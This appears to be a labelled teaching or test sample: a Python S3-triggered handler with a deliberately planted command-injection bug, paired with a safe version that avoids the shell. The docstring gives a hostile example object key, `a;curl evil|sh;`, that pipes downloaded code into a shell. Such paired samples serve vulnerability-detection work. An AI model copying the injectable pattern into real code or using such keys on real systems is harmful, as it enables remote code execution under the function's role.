"""PLANTED BUG (command-injection, S3): `handler` builds a shell command
line from the S3 object key. Anyone who can upload a file named
`a;curl evil|sh;` runs commands with the function's role. The clean twin,
`handler_safe`, passes the key as one argument of an argument vector and
never starts a shell."""
import subprocess
import urllib.parse


def keys(event):
    for record in event.get("Records", []):
        yield urllib.parse.unquote_plus(record["s3"]["object"]["key"])


def handler(event, context):
    for key in keys(event):
        subprocess.run("echo converting /tmp/%s" % key, shell=True,
                       capture_output=True, check=False, cwd="/tmp")
    return {"converted": True}


def handler_safe(event, context):
    for key in keys(event):
        subprocess.run(["echo", "converting", "/tmp/" + key],
                       capture_output=True, check=False, cwd="/tmp")
    return {"converted": True}
